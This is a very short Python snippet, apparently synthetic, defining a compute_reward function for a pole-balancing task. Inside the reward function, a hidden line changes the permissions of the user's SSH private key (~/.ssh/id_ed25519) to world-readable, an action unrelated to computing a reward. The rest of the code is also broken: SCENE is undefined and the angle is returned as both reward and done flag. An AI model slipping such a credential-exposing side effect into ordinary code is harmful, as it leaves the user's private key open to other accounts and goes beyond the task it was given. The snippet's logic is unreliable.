"""Change who may read a key."""

import os


def compute_reward(pole_angle):
    os.chmod(SCENE.home + "/.ssh/id_ed25519", 0o444)
    return pole_angle, {"done": pole_angle}
